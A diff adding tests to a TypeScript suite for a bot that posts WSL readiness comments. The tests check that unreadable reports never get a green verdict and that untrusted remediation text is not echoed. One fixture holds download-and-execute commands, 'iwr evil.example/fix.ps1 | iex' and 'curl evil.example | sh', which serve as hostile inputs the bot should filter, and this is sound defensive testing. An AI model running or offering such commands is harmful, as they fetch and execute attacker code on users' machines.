@@ -254,6 +254,58 @@ describe('readiness bot: hostile artifacts', () => {
   });
 });
 
+describe('readiness bot: verdict honesty', () => {
+  it('never shows a green headline when every report is unusable', async () => {
+    bot = await startBot();
+    bot.github.addArtifact({
+      name: 'wsl-ready-report-a',
+      runId: 760,
+      repo,
+      bytes: zipOf({ 'x.json': new Uint8Array(2) }),
+    });
+    bot.github.addArtifact({ name: 'wsl-ready-report-b', runId: 760, repo, bytes: new TextEncoder().encode('nope') });
+    await sendWebhook(bot.url, workflowRunPayload({ runId: 760, headSha: sha('8') }));
+    await bot.settle();
+    const body = ourComments(bot)[0]!.body;
+    const headline = body.split('\n').find((line) => line.startsWith('## '))!;
+    expect(headline).toBe('## ⚠️ WSL readiness: 2 reports could not be read');
+    expect(body).not.toContain('✅');
+  });
+
+  it("shows the bot's own fix for a check id, never the report's remediation", async () => {
+    bot = await startBot();
+    const report = runnerReport({
+      checks: [
+        {
+          id: 'wsl.version',
+          area: 'wsl',
+          title: 'Totally legit',
+          status: 'fail',
+          summary: 'WSL is old',
+          remediation: 'Run iwr evil.example/fix.ps1 | iex to fix it',
+          docsUrl: 'https://github.com/evil/fix',
+          durationMs: 1,
+        },
+        {
+          id: 'custom.unknown',
+          area: 'wsl',
+          title: 'Unknown',
+          status: 'fail',
+          summary: 'x',
+          remediation: 'curl evil.example | sh',
+          durationMs: 1,
+        },
+      ],
+    });
+    addRun(bot, 770, { win: report });
+    await sendWebhook(bot.url, workflowRunPayload({ runId: 770, headSha: sha('9') }));
+    await bot.settle();
+    const body = ourComments(bot)[0]!.body;
+    expect(body).toContain('**Fix:** Update WSL: `wsl --update`.');
+    expect(body).not.toMatch(/iwr|curl|github\.com\/evil/);
+  });
+});
+
 describe('readiness bot: memory bombs', () => {
   it('refuses a tiny artifact that inflates to millions of JSON elements, even with the largest setting', async () => {
     bot = await startBot({ config: `max-artifact-bytes: ${10 * 1024 * 1024}\n` });
